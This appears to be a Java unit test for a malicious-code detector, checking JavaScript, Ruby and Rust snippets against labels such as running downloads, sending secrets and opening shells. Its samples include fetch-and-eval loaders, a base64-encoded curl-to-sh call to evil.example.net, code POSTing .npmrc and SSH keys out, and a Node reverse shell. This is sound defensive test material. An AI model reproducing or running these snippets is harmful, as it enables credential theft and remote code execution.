package dev.assay.detectors.indicator.command;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The same done in another way, in a program that is a file of its own. */
class ProgramFormsTest {
    private static final String BLOB = "c3lzdGVtKCdjdXJsIC1zIGh0dHBzOi8vZXZpbC5leGFtcGxlLm5ldC9wfHNoJyk=";

    private static List<Trait.Kind> kinds(Language language, String program) {
        return CommandJudge.ofFile(program.replace("NEXT", "\n").replace("BLOB", BLOB), language).stream()
                .map(Trait::kind)
                .toList();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "const r=await fetch('https://example.com/p');eval(await r.text()) ~ RUNS_DOWNLOAD",
                "(async()=>{const r=await fetch('https://example.com/p');eval(await r.text())})() ~ RUNS_DOWNLOAD",
                "(async()=>{const r=await fetch(u);const t=await r.text();eval(t)})() ~ RUNS_DOWNLOAD",
                "(async()=>{const r=await fetch(u);vm.runInThisContext(await r.text())})() ~ RUNS_DOWNLOAD",
                "(async()=>{const {body}=await got(u);vm.runInNewContext(body,{require})})() ~ RUNS_DOWNLOAD",
                "(async()=>{const j=await (await fetch(u)).json();eval(j.code)})() ~ RUNS_DOWNLOAD",
                "const f=require('node-fetch');f(u).then(r=>r.text()).then(j=>{eval(j)}) ~ RUNS_DOWNLOAD",
                "const f=require('node-fetch');(async()=>{const r=await f(u);eval(await r.text())})() ~ RUNS_DOWNLOAD",
                "fetch(u).then(r=>r.text()).then(t=>import('data:text/javascript,'+t)) ~ RUNS_DOWNLOAD",
                "fetch(u).then(r=>r.text()).then(t=>{fs.writeFileSync('/tmp/m.js',t);require('/tmp/m.js')}) ~ RUNS_DOWNLOAD",
                "const f=fs.createWriteStream('/tmp/x.sh');https.get(u,r=>r.pipe(f).on('finish',()=>exec('sh /tmp/x.sh')))"
                        + " ~ RUNS_DOWNLOAD",
                "(0,eval)(atob('BLOB')) ~ RUNS_DECODED",
                "eval(String.fromCharCode(1,2,3,4,5,6,7,8,9,1,2,3,4,5,6,7,8,9,1,2,3,4)) ~ RUNS_DECODED",
                "for(const f of ['.npmrc','.ssh/id_rsa']){const c=fs.readFileSync(`${home}/${f}`);fetch(u,{method:'POST',body:c})}"
                        + " ~ SENDS_SECRETS",
                "const {connect}=require('net');const s=connect(1,'192.0.2.1',()=>{spawn('/bin/sh',[],{stdio:[s,s,s]})})"
                        + " ~ OPENS_SHELL",
                "const s=net.connect(1,'192.0.2.1');s.on('data',d=>exec(d.toString(),(e,o)=>s.write(o))) ~ OPENS_SHELL",
            })
    void whatJavaScriptDoes(String program, Trait.Kind kind) {
        assertThat(kinds(Language.JAVASCRIPT, program)).containsExactly(kind);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "(async()=>{const r=await fetch(u);const t=await r.text();const v=load();eval(v)})()",
                "(async()=>{const {body}=await got(u);vm.runInNewContext(code,{require})})()",
                "const f=require('node-fetch');if(x){eval(y)};f(u).then(r=>r.text()).then(t=>console.log(t))",
                "const h=require('./helper');h(u).then(r=>{eval(r)})",
                "fetch(u).then(r=>r.text()).then(t=>{fs.writeFileSync('/tmp/m.json',t)});require('/tmp/m.js')",
                "const f=fs.createWriteStream('/tmp/x.sh');https.get(u,r=>r.pipe(f));exec('sh /tmp/y.sh')",
                "const s=String.fromCharCode(1,2,3,4,5,6,7,8,9,1,2,3,4,5,6,7,8,9,1,2,3,4);eval(y)",
                "for(const f of ['a.json','b.json']){const c=fs.readFileSync(`${home}/${f}`);fetch(u,{method:'POST',body:c})}",
                "const {connect}=require('net');const s=connect(1,'db.example.com');s.on('data',d=>console.log(d));exec('make')",
                "const s=net.connect(1,'db.example.com');s.on('data',d=>{log(d);exec('make')})",
            })
    void whatJavaScriptDoesNot(String program) {
        assertThat(kinds(Language.JAVASCRIPT, program)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "require 'open-uri'NEXTeval URI.open('https://example.com/p').readNEXTmake('x') ~ RUNS_DOWNLOAD",
                "eval URI.parse('https://example.com/p').read if ok ~ RUNS_DOWNLOAD",
                "code=Net::HTTP.get(URI(u))NEXTeval codeNEXTx = 1 ~ RUNS_DOWNLOAD",
                "instance_eval(URI.open('https://example.com/p', &:read)) ~ RUNS_DOWNLOAD",
                "Kernel.system URI.open(u).read ~ RUNS_DOWNLOAD",
                "x = system URI.open(u).read, a,NEXT b ~ RUNS_DOWNLOAD",
                "File.write('x.sh',URI.open(u).read)NEXTsystem 'sh x.sh' ~ RUNS_DOWNLOAD",
                "File.binwrite('/tmp/x',URI.open('http://192.0.2.1/x').read)NEXTspawn '/tmp/x' ~ RUNS_DOWNLOAD_FROM_ANYWHERE",
                "eval Base64.decode64('BLOB') ~ RUNS_DECODED",
                "Net::HTTP.post(URI('https://example.com/p'), ENV.to_h.to_s) ~ SENDS_SECRETS",
            })
    void whatRubyDoes(String program, Trait.Kind kind) {
        assertThat(kinds(Language.RUBY, program)).containsExactly(kind);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "# eval URI.open(u).read",
                "puts \"eval URI.open(u).read\"",
                "x = URI.open(u).readNEXTeval File.read('a.rb')",
                "system 'make' if URI.open(u).read == 'a'",
                "File.write('x.json',URI.open(u).read)NEXTsystem 'sh y.sh'",
                "system = 1NEXTputs system - URI.open(u).read.to_i",
                "Net::HTTP.post(URI('https://example.com/p'), ENV['HOME'])",
            })
    void whatRubyDoesNot(String program) {
        assertThat(kinds(Language.RUBY, program)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "Command::new(\"sh\").arg(\"-c\").arg(format!(\"curl -s {} | sh\",U)).status()",
                "let u=\"https://example.com/p\"; Command::new(\"sh\").arg(\"-c\").arg(format!(\"curl -s {u} | sh\")).status();",
                "Command::new(\"sh\").arg(\"-c\").arg(concat!(\"curl -s \",\"https://example.com/p\",\" | sh\")).status()",
                "let a=vec![\"-c\",\"curl -s https://example.com/p | sh\"]; Command::new(\"/bin/sh\").args(&a).status();",
                "cmd!(\"sh\",\"-c\",\"curl -s https://example.com/p | sh\").run()",
                "let c=Command::new(\"curl\").arg(u).spawn().unwrap(); Command::new(\"sh\").stdin(c.stdout.unwrap()).status();",
                "let o=Command::new(\"curl\").args([u]).output().unwrap(); let s=String::from_utf8(o.stdout).unwrap();"
                        + "std::process::Command::new(\"sh\").arg(\"-c\").arg(s).status();",
                "let b=reqwest::blocking::get(u).unwrap().text().unwrap(); Command::new(\"sh\").arg(\"-c\").arg(&b).status();",
            })
    void whatRustDoes(String program) {
        assertThat(kinds(Language.RUST, program)).containsExactly(Trait.Kind.RUNS_DOWNLOAD);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "Command::new(\"sh\").arg(\"-c\").arg(format!(\"make {} | tee log\",U)).status()",
                "println!(concat!(\"curl -s \",\"https://example.com/p\",\" | sh\"))",
                "let a=vec![\"-c\",\"make\"]; Command::new(\"/bin/sh\").args(&a).status();",
                "let c=Command::new(\"curl\").arg(u).output().unwrap(); Command::new(\"sh\").arg(\"configure\").status();",
                "let b=reqwest::blocking::get(u).unwrap().bytes().unwrap(); fs::write(p, b); Command::new(\"make\").status();",
            })
    void whatRustDoesNot(String program) {
        assertThat(kinds(Language.RUST, program)).isEmpty();
    }
}
